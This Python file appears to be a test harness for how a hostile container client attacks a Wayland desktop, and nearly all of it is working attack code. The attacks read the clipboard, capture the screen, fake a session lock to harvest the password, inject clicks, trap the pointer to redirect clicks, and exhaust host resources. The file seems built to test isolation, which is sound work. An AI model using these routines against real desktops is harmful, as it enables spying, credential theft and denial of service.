"""What a hostile container tries on a Wayland desktop, each on a connection of its own. Usage: wayland_attacks.py JSON, behind
wayland_client.py

JSON names what is to be had: {"secret": TEXT, "title": TEXT, "colour": RRGGBB, "monitor": NAME, "number": {GLOBAL: NUMBER}}. Prints a JSON
object: for each attack whether it worked.
"""

import glob
import json
import mmap
import secrets
import select
import sys
import time

WANTED = json.loads(sys.argv[1])
FIRST_OF_HOST = 0xFF000000
XRGB8888 = 1


class Attacker(Desktop):
    """A client that knows the globals by their names, and makes objects."""

    def __init__(self):
        super().__init__()
        self.socket.settimeout(10)
        self.found = super().globals()
        self.next = CALLBACK

    def new(self):
        self.next += 1
        return self.next

    def has(self, *interfaces):
        return all(interface in self.found for interface in interfaces)

    def get(self, interface, version=1):
        new = self.new()
        self.bind(self.found, interface, new, version)
        return new

    def make(self, target, opcode, *words, fds=()):
        """A request whose first argument is a new object."""
        new = self.new()
        self.send(target, opcode, struct.pack(f"<{len(words) + 1}I", new, *words), fds)
        return new

    def call(self, target, opcode, *words):
        self.send(target, opcode, struct.pack(f"<{len(words)}I", *words))

    def events(self, until):
        """What comes, as (object, opcode, body), until it says so itself or nothing comes for ten seconds."""
        seen = []
        while select.select([self.socket], [], [], 10)[0]:
            event = self.receive()
            if event[0] == DISPLAY and event[1] == 0:
                raise OSError(event[2][12:].decode(errors="replace"))
            seen.append(event)
            if until(*event):
                break
        return seen

    def sees(self, target, opcode):
        return any(event[:2] == (target, opcode) for event in self.events(lambda *event: event[:2] == (target, opcode)))

    def answers(self):
        """Whether all that was sent has reached the compositor, without an error."""
        callback = self.make(DISPLAY, 0)
        return self.sees(callback, 0)

    def buffer(self, width, height, stride, pixel=b"\0\0\0\0"):
        """A buffer, and its memory."""
        file = os.memfd_create("picture")
        os.write(file, pixel * (stride * height // 4))
        pool = self.make(self.get("wl_shm"), 0, stride * height, fds=[file])
        return self.make(pool, 0, 0, width, height, stride, XRGB8888), mmap.mmap(file, stride * height)


def is_wanted(pixels):
    return pixels.count(bytes.fromhex(WANTED["colour"])[::-1]) > 10_000


def clipboard(manager):
    def attack(client):
        if not client.has(manager):
            return False
        device = client.make(client.get(manager), 1, client.get("wl_seat"))
        client.call(DISPLAY, 0, client.new())
        seen = client.events(lambda target, *_: target == client.next)
        offers = [struct.unpack("<I", body)[0] for target, opcode, body in seen if target == device and opcode == 1]
        if not offers or not offers[-1]:
            return False
        reader, writer = os.pipe()
        client.send(offers[-1], 0, text("text/plain;charset=utf-8"), [writer])
        os.close(writer)
        client.answers()
        return os.read(reader, 100).decode() == WANTED["secret"]

    return attack


def layer(client):
    """Covers the whole desktop, panels too."""
    if not client.has("zwlr_layer_shell_v1"):
        return False
    surface = client.make(client.get("wl_compositor"), 0)
    # Only who has the screen as an object is told which surfaces are on it.
    client.get("wl_output")
    shell, new, overlay = client.get("zwlr_layer_shell_v1"), client.new(), 3
    client.send(shell, 0, struct.pack("<IIII", new, surface, 0, overlay) + text("panel"))
    client.call(new, 1, 15)
    client.call(surface, 6)
    for target, opcode, body in client.events(lambda target, *_: target == new):
        if target == new and opcode == 0:
            serial, width, height = struct.unpack("<III", body)
            client.call(new, 6, serial)
            client.call(surface, 1, client.buffer(width, height, width * 4)[0], 0, 0)
            client.call(surface, 6)
            return client.sees(surface, 0)
    return False


def lock(client):
    """Locks the session: only this client is seen, and gets the password."""
    if not client.has("ext_session_lock_manager_v1"):
        return False
    new = client.make(client.get("ext_session_lock_manager_v1"), 1)
    if not client.sees(new, 0):
        return False
    client.call(new, 2)
    return client.answers()


def pointer(client):
    """Clicks into the window in the middle of the screen."""
    if not client.has("zwlr_virtual_pointer_manager_v1"):
        return False
    seat, manager, new = client.get("wl_seat"), client.get("zwlr_virtual_pointer_manager_v1"), client.new()
    client.call(manager, 0, seat, new)
    left = 0x110
    # An app that sees a pointer for the first time needs a while before it takes clicks.
    for _ in range(20):
        for opcode, words in (1, [0, 1, 1, 2, 2]), (2, [0, left, 1]), (2, [0, left, 0]):
            client.call(new, opcode, *words)
            client.call(new, 4)
            client.answers()
        time.sleep(0.1)
    return True


def input_method(client):
    """Is the one that gets all keys, and types into fields of text: unless the compositor says that it is not."""
    if not client.has("zwp_input_method_manager_v2"):
        return False
    seat, manager, new = client.get("wl_seat"), client.get("zwp_input_method_manager_v2"), client.new()
    client.call(manager, 0, seat, new)
    client.call(DISPLAY, 0, client.new())
    seen = client.events(lambda target, *_: target == client.next)
    return not any(event[:2] == (new, 6) for event in seen)


def outputs(client):
    """Changes the scale of the screen, as the compositor itself confirms."""
    double = 2 << 8
    if client.has("zwlr_output_manager_v1"):
        manager = client.get("zwlr_output_manager_v1")
        seen = client.events(lambda target, opcode, _: target == manager and opcode == 1)
        [head] = [struct.unpack("<I", body)[0] for target, opcode, body in seen if target == manager and opcode == 0]
        [serial] = [struct.unpack("<I", body)[0] for target, opcode, body in seen if target == manager and opcode == 1]
        configuration = client.make(manager, 0, serial)
        client.call(client.make(configuration, 0, head), 4, double)
        client.call(configuration, 2)
        return client.sees(configuration, 0)
    if client.has("kde_output_management_v2", "kde_output_device_registry_v2"):
        registry = client.get("kde_output_device_registry_v2", 21)
        seen = client.events(lambda target, opcode, _: target == registry and opcode == 1)
        device = struct.unpack("<I", seen[-1][2])[0]
        configuration = client.make(client.get("kde_output_management_v2"), 0)
        client.call(configuration, 4, device, double)
        client.call(configuration, 5)
        return client.sees(configuration, 0)
    return False


def screen(client):
    if not client.has("zwlr_screencopy_manager_v1"):
        return False
    frame = client.make(client.get("zwlr_screencopy_manager_v1"), 0, 0, client.get("wl_output"))
    *_, (_, opcode, body) = client.events(lambda target, *_: target == frame)
    _, width, height, stride = struct.unpack("<IIII", body)
    buffer, pixels = client.buffer(width, height, stride)
    client.call(frame, 0, buffer)
    return client.sees(frame, 2) and is_wanted(pixels[:])


def capture(client):
    source_manager, manager = "ext_output_image_capture_source_manager_v1", "ext_image_copy_capture_manager_v1"
    if not client.has(source_manager, manager):
        return False
    source = client.make(client.get(source_manager), 0, client.get("wl_output"))
    session = client.make(client.get(manager), 0, source, 0)
    seen = client.events(lambda target, opcode, _: target == session and opcode == 4)
    width, height = next(struct.unpack("<II", body) for target, opcode, body in seen if (target, opcode) == (session, 0))
    buffer, pixels = client.buffer(width, height, width * 4)
    frame = client.make(session, 0)
    client.call(frame, 1, buffer)
    client.call(frame, 2, 0, 0, width, height)
    client.call(frame, 3)
    return client.sees(frame, 3) and is_wanted(pixels[:])


def windows(manager):
    def attack(client):
        if not client.has(manager):
            return False
        client.get(manager)
        client.call(DISPLAY, 0, client.new())
        seen = client.events(lambda target, *_: target == client.next)
        title = WANTED["title"].encode()
        return any(target >= FIRST_OF_HOST and title in body for target, _, body in seen)

    return attack


def monitor(client):
    """Is told by what the user's machine could be recognized."""
    output = client.get("wl_output", 4)
    seen = client.events(lambda target, opcode, _: (target, opcode) == (output, 2))
    return any(target == output and WANTED["monitor"].encode() in body for target, _, body in seen)


def number(client):
    """Binds a global by the number whether or not it was told of it."""
    client.found = WANTED["number"]
    for interface in client.found:
        client.get(interface)
    return client.answers()


def forged(client):
    """Sends a message to an object that there is not: worked if the compositor has seen it, which it says in its own words."""
    client.call(0x1234, 0)
    try:
        # Whoever writes once more may meet a closed socket before the words are read.
        client.events(lambda *_: False)
    except (OSError, struct.error) as error:
        return "invalid object" in str(error)
    return False


def surfaces(client):
    compositor = client.get("wl_compositor")
    for index in range(100_000):
        client.make(compositor, 0)
        if index % 1_000 == 0 and not client.answers():
            return False
    return client.answers()


def files(_):
    """Speaks to the host's waypipe itself: opens files of 48 GiB, and then asks the compositor something."""
    none, fixed, no_graphics_card, no_video = 1 << 8, 1 << 7, 1 << 2, 1 << 11
    callback = 2
    for path in glob.glob(os.path.expanduser("~/.xpra/*")):
        stream = socket.socket(socket.AF_UNIX)
        stream.settimeout(10)
        try:
            stream.connect(path)
        except OSError:
            continue
        stream.sendall(struct.pack("<I", 1 << 16 | none | fixed | no_graphics_card | no_video) + secrets.token_bytes(12))
        for number in range(1, 25):
            stream.sendall(struct.pack("<IiI", 12 << 5 | 2, number, 2**31 - 4096))
        stream.sendall(struct.pack("<IIII", 16 << 5, DISPLAY, 12 << 16, callback))
        got = b""
        # The answer is the end of the callback.
        while chunk := stream.recv(4096):
            got += chunk
            if struct.pack("<II", callback, 12 << 16) in got:
                return True
    return False


ATTACKS = {
    "reads the clipboard (zwlr_data_control)": clipboard("zwlr_data_control_manager_v1"),
    "reads the clipboard (ext_data_control)": clipboard("ext_data_control_manager_v1"),
    "covers the desktop (zwlr_layer_shell)": layer,
    "locks the session (ext_session_lock)": lock,
    "is the input method (zwp_input_method_v2)": input_method,
    "clicks (zwlr_virtual_pointer)": pointer,
    "changes the screen's scale (output management)": outputs,
    "sees the screen (zwlr_screencopy)": screen,
    "sees the screen (ext_image_copy_capture)": capture,
    "reads titles (zwlr_foreign_toplevel)": windows("zwlr_foreign_toplevel_manager_v1"),
    "reads titles (ext_foreign_toplevel_list)": windows("ext_foreign_toplevel_list_v1"),
    "reads the monitor's name": monitor,
    "binds a global by its number": number,
    "sends a message to an object that there is not": forged,
    "has 100,000 surfaces": surfaces,
    "opens files of 48 GiB": files,
}


def trap(client):
    """Once the pointer is in its window, holds it there, and lets it go beside the window: the next click is another's."""
    seat, constraints, shell = map(client.get, ("wl_seat", "zwp_pointer_constraints_v1", "xdg_wm_base"))
    surface = client.make(client.get("wl_compositor"), 0)
    window = client.make(shell, 2, surface)
    toplevel = client.make(window, 1)
    client.call(surface, 6)
    seen = client.events(lambda target, opcode, _: (target, opcode) == (window, 0))
    client.call(window, 4, struct.unpack("<I", seen[-1][2])[0])
    client.call(surface, 1, client.buffer(300, 300, 1200)[0], 0, 0)
    client.call(surface, 6)
    pointer, for_ever = client.make(seat, 0), 2
    client.send(toplevel, 2, text("trap"))
    client.sees(pointer, 0)
    client.send(toplevel, 2, text("entered"))
    # The user's hand comes to rest.
    time.sleep(0.5)
    lock = client.make(constraints, 1, surface, pointer, 0, for_ever)
    if not client.sees(lock, 0):
        return
    client.send(lock, 1, struct.pack("<ii", -200 * 256, 100 * 256))
    client.call(surface, 6)
    client.call(lock, 0)
    client.answers()
    client.send(toplevel, 2, text("sprung"))
    client.answers()
    time.sleep(2)


def main():
    if "trap" in WANTED:
        return trap(Attacker())
    loot = {}
    for name, attack in ATTACKS.items():
        try:
            loot[name] = attack(Attacker())
        # The connection has ended.
        except (OSError, struct.error):
            loot[name] = False
    print(json.dumps(loot))


main()
